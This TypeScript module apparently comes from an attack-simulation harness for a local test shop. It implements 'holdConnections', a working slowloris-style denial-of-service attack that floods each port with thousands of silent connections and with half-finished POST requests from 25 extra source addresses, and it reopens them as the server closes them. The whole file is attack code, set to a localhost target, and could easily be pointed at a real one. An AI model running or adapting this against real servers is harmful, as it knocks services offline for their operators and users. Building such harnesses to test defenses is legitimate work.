import { connect, type Socket } from 'node:net'
import type { Attack } from '../attack.ts'
import { attackerAddress } from '../visitors.ts'

const silent = 2_100
const accomplices = 25
const halfRequests = 95
const halfRequest = 'POST /api/v1/quotes HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 9\r\n\r\n{'
/** Fewer than a server lets wait to be accepted (its backlog). */
const atOnce = 100

/**
 * Opens 2,100 silent connections from one address to each node, and 95 with half a request from each of twenty-five others. Then repeats
 * this while the attack goes on, because the shop closes most of them.
 */
export const holdConnections: Attack = async ({ target, repeat, isOver, begun }) => {
  const held = new Set<Socket>()
  const waves = target.ports.flatMap((port) => [
    ...Array.from({ length: silent / atOnce }, () => ({ port, address: 0, count: atOnce, bytes: '' })),
    ...Array.from({ length: accomplices }, (_, n) => ({
      port,
      address: n + 1,
      count: halfRequests,
      bytes: halfRequest,
    })),
  ])
  const open = async ({ port, address, count, bytes }: (typeof waves)[number]) => {
    const localAddress = attackerAddress(target.firstAddress + address)
    await Promise.all(Array.from({ length: count }, () => hold(held, { port, localAddress }, bytes)))
  }
  for (const wave of waves) if (!isOver()) await open(wave)
  begun()
  await repeat({ perSecond: 1, atOnce: 1 }, async (n) => {
    const wave = waves[n % waves.length]
    if (wave) await open(wave)
  })
  for (const socket of held) socket.destroy()
}

/** Opens a connection and keeps it. Resolves when it is open, or was closed at once. */
function hold(held: Set<Socket>, to: { port: number; localAddress: string }, bytes: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', ...to }, () => {
      if (bytes) socket.write(bytes)
      resolve()
    })
    held.add(socket)
    socket
      .resume()
      .on('error', () => {})
      .on('close', () => {
        held.delete(socket)
        resolve()
      })
  })
}
